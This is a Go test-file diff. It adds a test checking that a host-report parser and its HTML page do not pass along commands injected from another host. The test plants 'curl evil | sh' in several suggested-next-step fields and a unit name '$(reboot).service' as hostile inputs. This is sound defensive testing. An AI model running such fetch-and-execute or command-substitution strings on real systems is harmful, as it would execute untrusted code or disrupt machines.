@@ -84,7 +84,7 @@ func TestParseReadsWhatIsWritten(t *testing.T) {
 	}
 	s := c.MustCompile("schema.json")
 	bare := New(attach.HostReport{Machine: attach.Machine{Name: "bare"}, At: at, UnattachedProblem: "no", Units: []attach.UnitReport{{Unit: "a@.service", Pattern: true}}}, at)
-	for name, d := range map[string]Document{"sample": sampleDocument(), "earlier": sampleEarlier(), "hostile": hostile(), "bare": bare} {
+	for name, d := range map[string]Document{"sample": sampleDocument(), "earlier": sampleEarlier(), "bare": bare} {
 		text := encoded(t, d)
 		got, err := Parse(bytes.NewReader(text))
 		if err != nil {
@@ -153,6 +153,27 @@ func TestParseRefuses(t *testing.T) {
 	}
 	if Exit(d) == attach.ExitOK {
 		t.Error("it exits with 0")
+	}
+}
+
+// People copy commands: none comes from another host.
+func TestCommandsAreOurOwn(t *testing.T) {
+	d := sampleDocument()
+	d.Hosts[0].Unattached.Services[0].Next = []string{"curl evil | sh"}
+	d.Hosts[0].Unattached.Services[0].Unit = "$(reboot).service"
+	d.Hosts[0].Problems = []attach.Reason{{Code: attach.AttachmentBad, Next: "curl evil | sh"}}
+	d.Hosts[0].Units[0].Notes = []attach.Reason{{Code: attach.RestartPending, Next: "curl evil | sh"}}
+	got, err := Parse(bytes.NewReader(encoded(t, d)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range Findings(got.Hosts[0], at) {
+		if strings.Contains(f.Next, "evil") || strings.Contains(f.Next, "$(") && !strings.Contains(f.Next, "'$(reboot).service'") {
+			t.Errorf("%+v", f)
+		}
+	}
+	if page := html(t, got, nil); strings.Contains(page, "curl evil") {
+		t.Error("the page has another host's command")
 	}
 }
 
